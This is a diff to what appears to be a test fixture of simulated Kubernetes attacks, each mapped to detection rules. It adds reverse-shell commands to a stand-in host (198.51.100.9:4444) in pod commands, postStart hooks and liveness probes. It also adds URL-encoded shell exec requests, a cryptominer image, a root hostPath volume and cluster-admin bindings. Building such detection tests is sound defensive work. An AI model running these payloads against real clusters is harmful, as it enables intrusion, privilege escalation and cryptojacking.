@@ -26,6 +26,8 @@ const exec = (command: string) =>
 const inPod = (name: string, rules: string[], request: string) =>
   mallory(name, rules, request, { given: podOnNode, upgrade: 'SPDY/3.1', code: 101 });
 
+const reverseShell = ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'];
+
 const role = (name: string, rules: string[], permissions: object) =>
   mallory(`role: ${name}`, rules, `POST ${rbac}/clusterroles`, { body: named({ rules: [permissions] }) });
 const binding = (name: string, rules: string[], roleName: string, subject: object, more: Partial<Act> = {}) =>
@@ -35,6 +37,13 @@ const binding = (name: string, rules: string[], roleName: string, subject: objec
       subjects: [{ apiGroup: 'rbac.authorization.k8s.io', ...subject }],
     }),
     ...more,
+  });
+
+const user = (name: string) => ({ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name });
+const clusterAdmin = (name: string) =>
+  named({
+    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
+    subjects: [user(name)],
   });
 
 /** PEM in Base64, of the subjects /O=system:masters/CN=mallory and /CN=system:kube-controller-manager. */
@@ -74,12 +83,24 @@ export const attacks: Act[] = [
     { hostUsers: false },
     { securityContext: { procMount: 'Unmasked' } },
   ),
+  aPod('privileged, before it starts', ['pod-privileged'], {
+    initContainers: [{ name: 'init', image: 'busybox', securityContext: { privileged: true } }],
+  }),
+  aPod('reverse shell', ['pod-created-reverse-shell-args'], {}, { command: reverseShell }),
   aPod(
-    'reverse shell',
+    'reverse shell, after it starts',
     ['pod-created-reverse-shell-args'],
     {},
     {
-      command: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'],
+      lifecycle: { postStart: { exec: { command: reverseShell } } },
+    },
+  ),
+  aPod(
+    'reverse shell, as a probe',
+    ['pod-created-reverse-shell-args'],
+    {},
+    {
+      livenessProbe: { exec: { command: reverseShell } },
     },
   ),
   aPod('miner', ['cryptomining-container'], {}, { image: 'docker.io/xmrig/xmrig:6.22' }),
@@ -109,6 +130,29 @@ export const attacks: Act[] = [
     body: {
       spec: { ephemeralContainers: [{ name: 'debug', image: 'busybox', securityContext: { privileged: true } }] },
     },
+  }),
+  mallory(
+    'pod: ephemeral container, applied',
+    ['pod-ephemeral-container'],
+    `PATCH ${pods}/$name/ephemeralcontainers?fieldManager=x`,
+    {
+      given: [pods, pod()],
+      type: media.applyPatch,
+      body: {
+        ...{ apiVersion: 'v1', kind: 'Pod', metadata: { name: '$name' } },
+        spec: { ephemeralContainers: [{ name: 'debug', image: 'busybox' }] },
+      },
+    },
+  ),
+  mallory('pod: image changed by JSON Patch', ['cryptomining-container'], `PATCH ${pods}/$name`, {
+    given: [pods, pod()],
+    type: media.jsonPatch,
+    body: [{ op: 'replace', path: '/spec/containers/0/image', value: 'docker.io/xmrig/xmrig:6.22' }],
+  }),
+  mallory('volume: root of the node', ['pod-hostpath-sensitive'], 'POST /api/v1/persistentvolumes', {
+    body: named({
+      spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '//' } },
+    }),
   }),
   mallory('pod: bound by hand', ['pod-binding-created'], `POST ${pods}/$name/binding`, {
     given: [pods, pod()],
@@ -142,6 +186,21 @@ export const attacks: Act[] = [
   }),
 
   inPod('exec: shell', ['pod-exec', 'pod-exec-shell-binary'], exec('/bin/bash -i')),
+  inPod(
+    'exec: shell, everything escaped',
+    ['pod-exec-shell-binary'],
+    `POST ${pods}/$name/exec?comm%61nd=%2fbin%2fb%61sh&container=web&stdout=true`,
+  ),
+  mallory('exec: shell, by WebSocket', ['pod-exec', 'pod-exec-shell-binary'], exec('sh').replace('POST', 'GET'), {
+    given: podOnNode,
+    upgrade: 'websocket',
+    headers: {
+      'sec-websocket-version': '13',
+      'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
+      'sec-websocket-protocol': 'v5.channel.k8s.io',
+    },
+    code: 101,
+  }),
   inPod('exec: reverse shell', ['pod-exec-reverse-shell'], exec('bash -c bash+-i+>&+/dev/tcp/198.51.100.9/4444+0>&1')),
   inPod(
     'exec: token',
@@ -184,24 +243,6 @@ export const attacks: Act[] = [
     },
   ),
 
-  mallory('secrets: all', ['secrets-list-cluster-wide'], 'GET /api/v1/secrets?limit=500'),
-  mallory('secrets: all, watched', ['secrets-list-cluster-wide'], 'GET /api/v1/secrets?watch=1&timeoutSeconds=1'),
-  mallory(
-    'secrets: all, watched from an old version',
-    ['secrets-list-cluster-wide'],
-    'GET /api/v1/secrets?watch=1&resourceVersion=1&timeoutSeconds=1',
-  ),
-  mallory(
-    'secrets: all, watched by the old path',
-    ['secrets-list-cluster-wide'],
-    'GET /api/v1/watch/secrets?timeoutSeconds=1',
-  ),
-  mallory('secrets: of a namespace', ['secrets-list'], `GET ${shop}/secrets`),
-  mallory(
-    'secrets: of a namespace, watched from an old version',
-    ['secrets-list'],
-    `GET ${shop}/secrets?watch=1&resourceVersion=1&timeoutSeconds=1`,
-  ),
   mallory(
     'secrets: of kube-system',
     ['secrets-list-sensitive-namespace'],
@@ -224,6 +265,16 @@ export const attacks: Act[] = [
   ),
   mallory('configuration: credentials', ['configmap-with-credentials'], `POST ${shop}/configmaps`, {
     body: named({ data: { 'app.ini': 'password = "correct-horse-battery"\n' } }),
+  }),
+  mallory('secrets: bootstrap token', ['bootstrap-token-written'], 'POST /api/v1/namespaces/kube-system/secrets', {
+    body: {
+      metadata: { name: 'bootstrap-token-abcdef' },
+      type: 'bootstrap.kubernetes.io/token',
+      stringData: { 'token-id': 'abcdef', 'token-secret': '0123456789abcdef' },
+    },
+  }),
+  mallory('configuration: credentials by their key', ['configmap-with-credentials'], `POST ${shop}/configmaps`, {
+    body: named({ data: { password: 'correct-horse-battery' } }),
   }),
   mallory('configuration: DNS', ['coredns-config-changed'], 'PATCH /api/v1/namespaces/kube-system/configmaps/coredns', {
     given: [
@@ -248,6 +299,19 @@ export const attacks: Act[] = [
     type: media.jsonPatch,
     body: [{ op: 'add', path: '/rules/-', value: { apiGroups: ['*'], resources: ['*'], verbs: ['*'] } }],
   }),
+  mallory('role: widened by a verb', ['role-wildcard'], `PATCH ${rbac}/clusterroles/$name`, {
+    given: [`${rbac}/clusterroles`, named({ rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['get'] }] })],
+    type: media.jsonPatch,
+    body: [{ op: 'add', path: '/rules/0/verbs/-', value: '*' }],
+  }),
+  {
+    ...role('signs certificates', ['role-sensitive-permissions'], {
+      apiGroups: ['certificates.k8s.io'],
+      resources: ['signers'],
+      verbs: ['approve', 'sign'],
+    }),
+    awaits: 'a word on who may sign certificates',
+  },
   mallory('role: of the system', ['system-role-changed'], `PATCH ${rbac}/clusterroles/system:discovery`, {
     type: media.mergePatch,
     body: { metadata: { labels: { changed: 'yes' } } },
@@ -257,6 +321,21 @@ export const attacks: Act[] = [
     code: 403,
   }),
   binding('cluster-admin', ['binding-cluster-admin'], 'cluster-admin', { kind: 'User', name: 'mallory' }),
+  mallory(
+    'binding: subject added by JSON Patch',
+    ['binding-cluster-admin'],
+    `PATCH ${rbac}/clusterrolebindings/$name`,
+    {
+      given: [`${rbac}/clusterrolebindings`, clusterAdmin('ann')],
+      type: media.jsonPatch,
+      body: [{ op: 'add', path: '/subjects/-', value: user('mallory') }],
+    },
+  ),
+  mallory('binding: applied', ['binding-cluster-admin'], `PATCH ${rbac}/clusterrolebindings/$name?fieldManager=x`, {
+    type: media.applyPatch,
+    body: { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', ...clusterAdmin('mallory') },
+    code: 201,
+  }),
   binding('anonymous', ['binding-to-anonymous'], 'system:discovery', { kind: 'User', name: 'system:anonymous' }),
   binding(
     'refused escalation',
